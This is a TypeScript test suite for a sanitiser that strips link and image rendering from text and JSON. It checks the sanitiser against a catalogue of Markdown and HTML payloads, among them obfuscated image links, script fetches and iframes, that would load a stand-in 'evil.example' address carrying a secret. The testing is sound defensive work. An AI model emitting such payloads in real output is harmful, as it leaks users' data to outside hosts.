import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { neutralJson, neutralText } from "../../../tools/text/neutral.js";
import { addressesBehind } from "./rendered.js";

const EVIL = "https://evil.example/p?secret";

/** Ways to make a client follow or load an address by showing a text. */
const renderings = [
  `![x](${EVIL})`,
  `![](${EVIL})`,
  `![x](<${EVIL}>)`,
  `![x]( \n  ${EVIL} "title")`,
  `![x](//evil.example/p)`,
  `![x](\\/\\/evil.example/p)`,
  `![x](&#104;ttps://evil.example/p)`,
  `![x](&#x2f;&sol;evil.example/p)`,
  `![x](https&colon;//evil.example/p)`,
  `![x](https\\://evil.example/p)`,
  `![x](data:image/png;base64,AAAA)`,
  `[Pay here](${EVIL})`,
  `[https://bank.example](${EVIL})`,
  `[![x](${EVIL})](${EVIL})`,
  `[x](javascript:alert(1))`,
  `![x][1]\n\n[1]: ${EVIL}`,
  `[x][1]\n\n[1]:\n  <${EVIL}> 'title'`,
  `[ref]\n\n[ref]: //evil.example/p`,
  `> ![x](\n> ${EVIL})`,
  `> [x]\n>\n> [x]:\n> ${EVIL}`,
  `- a\n- ![x](${EVIL})`,
  `| a |\n| --- |\n| ![x](${EVIL}) |`,
  `<img src=${EVIL}>`,
  `<IMG\nSRC="${EVIL}">`,
  `> <img\n> src="${EVIL}">`,
  `<img/src=${EVIL}>`,
  `<picture><source srcset="${EVIL}"></picture>`,
  `<a href="${EVIL}">your bank</a>`,
  `<svg><image href="${EVIL}"/></svg>`,
  `<p style="background:url(${EVIL})">x</p>`,
  `<style>@import url(${EVIL});</style>`,
  `<script>fetch("${EVIL}")</script>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<link rel=prefetch href="${EVIL}">`,
  `<form action="${EVIL}"><input type=image src="${EVIL}"></form>`,
];

/** Text of what such ways are made of, whole and in pieces. */
const junk = fc
  .array(
    fc.oneof(
      fc.constantFrom(...renderings),
      fc.constantFrom(
        ..."[ ] ( ) ! : < > / \\ # \" ' = & ; ` * _ | - . \n \t x 1".split(" "),
        " ",
        "](",
        "]:",
        "[1]: ",
        "![",
        "[x]",
        "https://",
        "//e.example",
        "javascript:",
        "data:",
        "&#104;ttps:",
        "e.example/p",
        "<img",
        "src=",
        "<a href=",
        "<style>",
        "<https://",
        "> ",
        "\n\n",
      ),
      fc.string({ maxLength: 3 }),
    ),
    { maxLength: 25 },
  )
  .map((pieces) => pieces.join(""));

describe("neutralText", () => {
  test.each(renderings)("leaves nothing behind words of %j [D-10]", (text) => {
    expect(addressesBehind(text)).not.toEqual([]);
    expect(addressesBehind(neutralText(text))).toEqual([]);
  });

  test("keeps every word and address, so that a person can be told them", () => {
    expect(neutralText("See [Offer](https://shop.example/a_b?c=1).")).toBe(
      "See [Offer] (https://shop.example/a_b?c=1).",
    );
    expect(neutralText("Call <https://x.example> or <tel:+49>")).toBe(
      "Call (https://x.example) or <tel:+49>",
    );
    expect(neutralText("<javascript:alert(1)>")).toBe("(javascript:alert(1))");
  });

  test.each([
    "Ada <ada@acme.example>, Bo <mailto:bo@x.example>",
    "Report[final](2).pdf",
    "handlers[0](event); const a: Map<string, number[]> = b < c && d > e;",
    "vector<std::string> v; if (a<b) {}",
    "- [x] done\n- [ ] open\n[INFO]: started\n[^1]",
    "# A\n\n**b** `c` > d\n\n| a | b |\n| --- | --- |\n\n<br>\n<br />\n<b>x</b>",
    "https://x.example/?a[]=1&b=[2]:3",
  ])("leaves %j as it is", (text) => {
    expect(neutralText(text)).toBe(text);
  });

  test("leaves nothing behind words of any text, however made [D-10 P-06]", () => {
    fc.assert(
      fc.property(junk, (text) => {
        expect(addressesBehind(neutralText(text))).toEqual([]);
      }),
      { numRuns: 3000 },
    );
  });

  test("has nothing more to do on its own text, or on any part of it [P-06]", () => {
    fc.assert(
      fc.property(junk, fc.nat(60), fc.nat(60), (text, from, length) => {
        const once = neutralText(text);
        const part = once.slice(from, from + length);
        expect(neutralText(once)).toBe(once);
        expect(neutralText(part)).toBe(part);
      }),
      { numRuns: 2000 },
    );
  });

  test.each([
    "](",
    "]:",
    "<a",
    "<a ",
    "<https:",
    "] (",
    "[",
    "<data:x",
    "]( <",
  ])("takes 50,000 times %j without ado [W-11]", (unit) => {
    expect(neutralText(unit.repeat(50_000)).length).toBeGreaterThanOrEqual(
      50_000,
    );
  });
});

describe("neutralJson", () => {
  test("means the same, and shows nothing", () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(junk, fc.string({ unit: "binary" }))),
        (all) => {
          const json = neutralJson({ all });
          expect(JSON.parse(json)).toEqual({ all });
          expect(neutralText(json)).toBe(json);
          expect(json).not.toMatch(/[\p{Default_Ignorable_Code_Point}\p{Cc}]/u);
        },
      ),
      {
        numRuns: 1000,
        // Addresses in brackets that seem to go on in the next text.
        examples: [
          [["<data:", "![x](https://evil.example/p?secret)>"]],
          [["<javascript:", "<style>"]],
        ],
      },
    );
  });

  test("is plain JSON where there is nothing to show", () => {
    expect(neutralJson({ to: ["Ada <ada@acme.example>"], offset: 30 })).toBe(
      '{"to":["Ada <ada@acme.example>"],"offset":30}',
    );
  });
});
